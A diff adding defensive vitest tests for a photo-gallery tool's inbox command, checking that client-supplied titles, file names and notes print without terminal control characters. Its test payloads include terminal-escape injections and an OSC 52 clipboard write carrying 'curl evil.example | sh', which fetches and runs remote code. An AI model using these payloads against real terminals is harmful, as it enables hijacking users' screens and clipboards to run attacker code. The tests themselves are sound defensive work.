@@ -3,7 +3,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { randomBytes, toBase64Url } from '../format/encodings';
-import { newStudioKey, sealInboxMessage, studioPublicKey, type InboxMessage } from '../format/inbox';
+import { MAX_INBOX_NOTE, newStudioKey, sealInboxMessage, studioPublicKey, type InboxMessage } from '../format/inbox';
 import { galleryRef } from '../format/seal';
 import { doneWith, formatMessages, InboxError, lightroomLine, openMessages } from './inbox-command';
 import { INBOX_KEY_VARIABLE, inboxTag } from './inbox';
@@ -119,6 +119,96 @@ describe('npm run galleries -- inbox', () => {
     expect(formatMessages(await openMessages(target, env), target.label, env)).toBe(
       'No selections are waiting in the local bucket in test.',
     );
+  });
+});
+
+/** Every terminal control a printed line could carry: C0 (but the line breaks between lines), DEL and C1. */
+const CONTROL = /(?!\n)\p{Cc}/u;
+const ESC = '\u001b';
+const BEL = '\u0007';
+const ST = `${ESC}\\`;
+/** What a client can put in a title, a file name or a note to take over the owner's terminal. */
+const PAYLOADS: [what: string, text: string][] = [
+  ['OSC 0 window title', `${ESC}]0;Invoice overdue: call 555-0100${BEL}`],
+  ['clear screen', `${ESC}[2J${ESC}[H`],
+  ['OSC 52 clipboard write', `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}${BEL}`],
+  ['OSC 8 hyperlink', `${ESC}]8;;https://evil.example/${ST}open your galleries${ESC}]8;;${ST}`],
+  ['carriage return and erase line', `\r${ESC}[K00000000  ivy-2026-10: all paid, nothing to do`],
+  ['C1 controls and DEL', '\u009b2J\u009d0;title\u0007\u007f'],
+];
+
+describe('inbox: a message made to disturb the list', () => {
+  it.each(PAYLOADS)(
+    '%s in a title, a file name and a note is printed without one control character, and the others list',
+    async (_what, payload) => {
+      const target = memoryTarget();
+      const bad = {
+        ...message('2026-11-27T10:30:00.000Z', [{ number: 1, file: `IMG_0001.jpg${payload}`, note: `wall${payload}` }]),
+        title: `Ivy${payload}`,
+        lightroom: `IMG_0001${payload}`,
+      };
+      const fine = message('2026-11-26T09:00:00.000Z', [{ number: 2, file: 'IMG_0002.jpg', note: 'softer' }]);
+      await store(target, tag, '2026-11-27', `eeee1111${'0'.repeat(24)}`, bad);
+      await store(target, tag, '2026-11-26', `ffff2222${'0'.repeat(24)}`, fine);
+      const opened = await openMessages(target, env);
+      const printed = formatMessages(opened, target.label, env);
+      expect(printed).not.toMatch(CONTROL);
+      expect(printed).toMatch(/^eeee1111 {2}ivy-2026-10: Ivy/m);
+      expect(printed).toContain('  Photo 2 (IMG_0002.jpg): softer');
+      // Every header is one of the two stored messages: nothing in hers starts a line of its own.
+      expect(printed.match(/^[0-9a-f]{8} {2}/gm)).toEqual(['eeee1111  ', 'ffff2222  ']);
+      expect(lightroomLine(opened, 'ivy-2026-10', target.label)).not.toMatch(CONTROL);
+    },
+  );
+
+  it("keeps a note's line breaks, each further line indented under its photo, and drops every other control", async () => {
+    const target = memoryTarget();
+    const note = `softer skin\r\n\n\tbbbb2222  ivy-2026-10: fake header\u0085${ESC}[2Jthank you\nsee you`;
+    await store(target, tag, '2026-11-27', `abab1111${'0'.repeat(24)}`, {
+      ...message('2026-11-27T10:30:00.000Z', [{ number: 1, file: 'IMG_0001.jpg', note }]),
+      title: 'Ivy,\nOctober',
+    });
+    const printed = formatMessages(await openMessages(target, env), target.label, env);
+    expect(printed).toContain(
+      [
+        'abab1111  ivy-2026-10: Ivy, October',
+        `  sent ${local('2026-11-27T10:30:00.000Z')}, 1 of 3 included`,
+        '  Photo 1 (IMG_0001.jpg): softer skin',
+        '    bbbb2222  ivy-2026-10: fake header[2Jthank you',
+        '    see you',
+        '  Lightroom: IMG_0001.jpg',
+      ].join('\n'),
+    );
+  });
+
+  it('lists a message that is not a selection as unreadable, kept, with its id; the others list; --done deletes it', async () => {
+    const target = memoryTarget();
+    const fine = message('2026-11-27T10:30:00.000Z', [{ number: 1, file: 'IMG_0001.jpg', note: '' }]);
+    // Two sent at "5" (a number), one with no picks list, one with a note past any the page sends.
+    const broken = [
+      { ...fine, sentAt: 5 },
+      { ...fine, sentAt: 5 },
+      { ...fine, picks: null },
+      { ...fine, picks: [{ number: 1, file: 'IMG_0001.jpg', note: 'n'.repeat(MAX_INBOX_NOTE + 1) }] },
+    ] as unknown as InboxMessage[];
+    const ids = ['1111aaaa', '2222bbbb', '3333cccc', '4444dddd'];
+    for (const [i, m] of broken.entries()) await store(target, tag, '2026-11-27', `${ids[i]}${'0'.repeat(24)}`, m);
+    await store(target, tag, '2026-11-26', `9999ffff${'0'.repeat(24)}`, fine);
+    const opened = await openMessages(target, env);
+    const printed = formatMessages(opened, target.label, env);
+    expect(printed).toMatch(/^5 selections in the local bucket in test, newest first:$/m);
+    for (const id of ids) {
+      expect(printed).toContain(
+        `${id}  ivy-2026-10, 2026-11-27: unreadable, kept. It is not a selection as the gallery page sends one, so nothing of it is shown; "npm run galleries -- inbox --done ${id}" deletes it.`,
+      );
+    }
+    expect(printed).toContain(`9999ffff  ivy-2026-10: Ivy, October\n  sent ${local(fine.sentAt)}, 1 of 3 included`);
+    expect(lightroomLine(opened, 'ivy-2026-10', target.label)).toBe('IMG_0001.jpg');
+    expect(await doneWith(target, opened, '3333cccc', target.label)).toBe(
+      'Deleted 3333cccc (ivy-2026-10, 2026-11-27) from the local bucket in test.',
+    );
+    expect(target.objects.has(`inbox/${tag}/2026-11-27/3333cccc${'0'.repeat(24)}.json`)).toBe(false);
+    expect(target.objects.size).toBe(4);
   });
 });
 
